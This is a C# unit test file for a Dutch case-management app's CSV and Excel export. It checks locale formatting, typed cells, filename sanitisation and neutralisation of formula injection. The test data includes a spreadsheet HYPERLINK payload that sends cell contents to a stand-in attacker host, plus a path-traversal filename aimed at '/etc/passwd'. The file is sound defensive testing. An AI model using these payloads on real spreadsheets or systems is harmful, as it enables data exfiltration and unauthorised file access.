using System.Globalization;
using System.Text;
using Casework.Web.Infrastructure.Export;
using ClosedXML.Excel;
using CsvHelper;
using CsvHelper.Configuration;

namespace Casework.Web.Tests.Export;

/// <summary>
/// The export component on its own: a CSV that a Dutch Excel opens in columns (semicolons, UTF-8 with BOM, Dutch dates
/// and amounts), a workbook with typed cells, and text a user typed that never arrives as a formula in either.
/// </summary>
public sealed class TableExportTests
{
    private sealed record Row(string Reference, string Title, DateOnly? Due, DateTimeOffset? At, int Days, decimal Amount, decimal Score);

    private static readonly Row[] Rows =
    [
        new("WBI-2026-000042", "Financiën en woningbouw", new DateOnly(2026, 11, 23), new DateTimeOffset(2026, 7, 1, 10, 5, 0, TimeSpan.Zero), 12, 1_234_567.5m, 7.65m),
        new("KNP-2026-000007", "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Klik\")", null, null, 0, -250m, 8m),
        new("KNP-2026-000008", "-2+3", new DateOnly(2027, 1, 4), null, 3, 0m, 0m),
        new("KNP-2026-000009", "0123; met \"aanhalingstekens\"", null, null, 1, 5m, 1.5m),
    ];

    private static ExportTable Table() => ExportTable.Of("Werkvoorraad 23-11-2026", Rows, c => c
        .Text("Zaaknummer", r => r.Reference)
        .Text("Onderwerp", r => r.Title)
        .Date("Volgende termijn", r => r.Due)
        .DateTime("Ingediend", r => r.At)
        .WholeNumber("Dagen", r => r.Days)
        .Money("Gevraagd", r => r.Amount)
        .Number("Score", r => r.Score)
        .YesNo("Over termijn", r => r.Days > 10));

    [Fact]
    public void Csv_StartsWithTheBom_IsSemicolonSeparated_AndHoldsDutchDatesAmountsAndLabels()
    {
        var bytes = TableExport.ToCsv(Table());

        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var rows = ParseCsv(bytes);
        Assert.Equal(["Zaaknummer", "Onderwerp", "Volgende termijn", "Ingediend", "Dagen", "Gevraagd", "Score", "Over termijn"], rows[0]);
        Assert.Equal(5, rows.Count);
        Assert.Equal(["WBI-2026-000042", "Financiën en woningbouw", "23-11-2026", "01-07-2026 12:05", "12", "1.234.567,50", "7,65", "Ja"], rows[1]);
        Assert.Equal("04-01-2027", rows[3][2]);
        Assert.Equal("0123; met \"aanhalingstekens\"", rows[4][1]);
        Assert.Equal("1,5", rows[4][6]);
        Assert.Equal("Nee", rows[4][7]);
    }

    [Fact]
    public void Csv_NegativeAmount_StaysANumber_WhileTextThatStartsAFormula_IsNeutralised()
    {
        var rows = ParseCsv(TableExport.ToCsv(Table()));

        Assert.Equal("-250,00", rows[2][5]);
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Klik\")", rows[2][1]);
        Assert.Equal("'-2+3", rows[3][1]);
        Assert.All(rows.SelectMany(r => r).Where(cell => !SpreadsheetSafe.IsPlainNumber(cell, TableExport.Dutch)), cell =>
            Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"cell starts a formula: {cell}"));
    }

    [Fact]
    public void Excel_HasABoldFrozenHeader_AndTypedDateAndNumberCells_WithDutchFormats()
    {
        using var workbook = new XLWorkbook(new MemoryStream(TableExport.ToExcel(Table())));
        var sheet = Assert.Single(workbook.Worksheets);

        Assert.Equal("Werkvoorraad 23-11-2026", sheet.Name);
        Assert.Equal("Zaaknummer", sheet.Cell(1, 1).GetString());
        Assert.Equal("Over termijn", sheet.Cell(1, 8).GetString());
        Assert.True(sheet.Cell(1, 1).Style.Font.Bold);
        Assert.Equal(1, sheet.SheetView.SplitRow);
        Assert.Equal(5, sheet.LastRowUsed().RowNumber());

        var due = sheet.Cell(2, 3);
        Assert.Equal(XLDataType.DateTime, due.DataType);
        Assert.Equal(new DateTime(2026, 11, 23), due.GetDateTime());
        Assert.Equal("dd-mm-yyyy", due.Style.DateFormat.Format);
        Assert.Equal(new DateTime(2026, 7, 1, 12, 5, 0), sheet.Cell(2, 4).GetDateTime()); // Amsterdam summer time
        Assert.True(sheet.Cell(3, 3).IsEmpty());

        Assert.Equal(XLDataType.Number, sheet.Cell(2, 5).DataType);
        Assert.Equal(12, sheet.Cell(2, 5).GetValue<int>());
        Assert.Equal(XLDataType.Number, sheet.Cell(2, 6).DataType);
        Assert.Equal(1_234_567.5m, sheet.Cell(2, 6).GetValue<decimal>());
        Assert.Equal(-250m, sheet.Cell(3, 6).GetValue<decimal>());
        Assert.StartsWith("€ #,##0.00", sheet.Cell(2, 6).Style.NumberFormat.Format, StringComparison.Ordinal);
        Assert.Equal(7.65m, sheet.Cell(2, 7).GetValue<decimal>());

        // Text stays text, even when it looks like a number.
        Assert.Equal(XLDataType.Text, sheet.Cell(5, 2).DataType);
        Assert.Equal("0123; met \"aanhalingstekens\"", sheet.Cell(5, 2).GetString());
        Assert.Equal("Ja", sheet.Cell(2, 8).GetString());
        Assert.True(sheet.Column(2).Width > sheet.Column(5).Width, "a column is as wide as its longest cell");
    }

    [Fact]
    public void Excel_TextThatStartsAFormula_IsNeutralisedText_AndNoCellHoldsAFormula()
    {
        using var workbook = new XLWorkbook(new MemoryStream(TableExport.ToExcel(Table())));
        var sheet = workbook.Worksheet(1);

        Assert.Equal("'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Klik\")", sheet.Cell(3, 2).GetString());
        Assert.Equal("'-2+3", sheet.Cell(4, 2).GetString());
        Assert.Equal(XLDataType.Text, sheet.Cell(3, 2).DataType);
        Assert.All(sheet.CellsUsed(), cell => Assert.False(cell.HasFormula, $"{cell.Address} holds a formula"));
    }

    [Fact]
    public void Excel_WithoutRows_StillHasItsHeader()
    {
        var table = ExportTable.Of("Leeg", Array.Empty<Row>(), c => c.Text("Zaaknummer", r => r.Reference).Date("Termijn", r => r.Due));

        using var workbook = new XLWorkbook(new MemoryStream(TableExport.ToExcel(table)));

        Assert.Equal("Termijn", workbook.Worksheet(1).Cell(1, 2).GetString());
        Assert.Equal(["Zaaknummer", "Termijn"], Assert.Single(ParseCsv(TableExport.ToCsv(table))));
    }

    [Theory]
    [InlineData("Besluitenlijst SBSD 14-12-2026", "besluitenlijst-sbsd-14-12-2026.csv")]
    [InlineData("Rangschikking Volkshuisvestingsfonds ronde 3/4: \"Súdwest-Fryslân\"", "rangschikking-volkshuisvestingsfonds-ronde-3-4-sudwest-fryslan.csv")]
    [InlineData("../../etc/passwd\r\n", "etc-passwd.csv")]
    [InlineData("€€€", "export.csv")]
    public void FileName_IsLowerCaseAsciiWithHyphens(string title, string expected)
    {
        Assert.Equal(expected, TableExport.FileName(title, ExportFormat.Csv));
    }

    [Fact]
    public void Table_WithACellOfTheWrongType_IsRefused()
    {
        Assert.Throws<ArgumentException>(() => new ExportTable("x", [new ExportColumn("Datum", ExportCellKind.Date)], [["23-11-2026"]]));
    }

    [Theory]
    [InlineData("1.234.567,50", true)]
    [InlineData("-250,00", true)]
    [InlineData("42", true)]
    [InlineData("-2+3", false)]
    [InlineData("-A1", false)]
    [InlineData("-", false)]
    [InlineData("1,2,3", false)]
    [InlineData("", false)]
    public void IsPlainNumber_OnlyForNumbersAsTheExportWritesThem(string cell, bool expected)
    {
        Assert.Equal(expected, SpreadsheetSafe.IsPlainNumber(cell, TableExport.Dutch));
    }

    /// <summary>Reads the CSV back as a Dutch Excel does: UTF-8 (the BOM says so), semicolon-separated.</summary>
    internal static List<string[]> ParseCsv(byte[] bytes)
    {
        using var reader = new StreamReader(new MemoryStream(bytes), Encoding.UTF8, detectEncodingFromByteOrderMarks: true);
        using var csv = new CsvParser(reader, new CsvConfiguration(CultureInfo.GetCultureInfo("nl-NL")) { Delimiter = ";" });
        var rows = new List<string[]>();
        while (csv.Read())
        {
            rows.Add(csv.Record!);
        }

        return rows;
    }
}
